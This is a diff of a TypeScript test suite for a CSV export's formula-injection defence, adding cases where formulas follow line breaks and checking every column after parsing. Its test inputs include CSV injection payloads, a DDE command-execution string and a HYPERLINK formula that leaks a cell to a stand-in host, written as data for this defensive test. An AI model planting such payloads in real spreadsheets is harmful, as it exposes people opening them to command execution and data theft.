@@ -43,6 +43,11 @@ const risky: [string, string][] = [
   ["a formula after a semicolon and a blank", "Weekend batch; +cmd|' /C calc'!A0"],
   ["a formula after a comma", "Pune,@SUM(1+1)"],
   ["two formulas after separators", "a;=1+1, -2+3;\t=4"],
+  ["a formula after a line feed", 'Hello\n=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")'],
+  ["a formula after a carriage return", "Hello\r+cmd|' /C calc'!A0"],
+  ["a formula after CR LF and blanks", "Hello\r\n   @SUM(1+1)"],
+  ["a formula after a Unicode line separator", "Hello\u2028-2+3"],
+  ["formulas on several lines", "Hi\n=1+1\nthanks\n\n+2"],
 ];
 
 const ordinary = [
@@ -57,6 +62,7 @@ const ordinary = [
   "2026-01-05T09:30:00.000Z",
   'He said "call me"; thanks',
   "Line one\nLine two",
+  "Line one\r\nLine two\nLine three - with a dash inside the line",
 ];
 
 describe("CSV export formula neutralisation", () => {
@@ -66,13 +72,43 @@ describe("CSV export formula neutralisation", () => {
       const [label, value] = risky[i];
       expect(cell.startsWith("'"), label).toBe(true);
       // Nothing is lost: the apostrophes added are all that changed.
-      expect(cell.slice(1).replace(/([,;])'/g, "$1"), label).toBe(value);
+      expect(cell.slice(1).replace(/([,;\r\n\u2028])'/g, "$1"), label).toBe(value);
     });
     expect(read[1]).toBe("'+91 98450 12345");
     expect(read[0]).toBe(`'${risky[0][1]}`);
     expect(read[8]).toBe(`'Weekend batch;'=HYPERLINK("http://203.0.113.9","x")`);
     expect(read[9]).toBe("'Weekend batch;' +cmd|' /C calc'!A0");
     expect(read[11]).toBe("'a;'=1+1,' -2+3;'\t=4");
+    expect(read[12]).toBe(`'Hello\n'=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")`);
+    expect(read[13]).toBe("'Hello\r'+cmd|' /C calc'!A0");
+    expect(read[14]).toBe("'Hello\r\n'   @SUM(1+1)");
+    expect(read[16]).toBe("'Hi\n'=1+1\nthanks\n\n'+2");
+  });
+
+  it("starts no line of any cell with a formula, in every column, read back with a CSV parser", async () => {
+    const texts = risky.map(([, v]) => v);
+    async function* pages() {
+      yield texts.map((text, i) => ({ id: i, name: `Ravi\n=${i}`, text, note: `ok\r-${i}` }));
+    }
+    const columns: CsvColumn<{ id: number; name: string; text: string; note: string }>[] = [
+      { header: "name", value: (r) => r.name },
+      { header: "text", value: (r) => r.text },
+      { header: "note", value: (r) => r.note },
+    ];
+    const rows = parse(await csvResponse("t.csv", columns, pages()).text(), { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(texts.length);
+    for (const row of rows) {
+      for (const cell of Object.values(row)) {
+        // A program that splits a cell at its line breaks (or shows each line as a cell) sees no line start a formula.
+        for (const line of cell.split(/\r\n|[\r\n\u2028]/)) expect(line, JSON.stringify(cell)).not.toMatch(RISKY_START);
+      }
+    }
+    expect(rows[0].name).toBe("'Ravi\n'=0");
+    expect(rows[0].note).toBe("'ok\r'-0");
+  });
+
+  it("drops direction controls, which would show a name reversed", async () => {
+    expect(await cells(["\u202EnalaM iveD", "Ravi \u2066Kumar\u2069"])).toEqual(["nalaM iveD", "Ravi Kumar"]);
   });
 
   it("quotes each neutralised value", async () => {
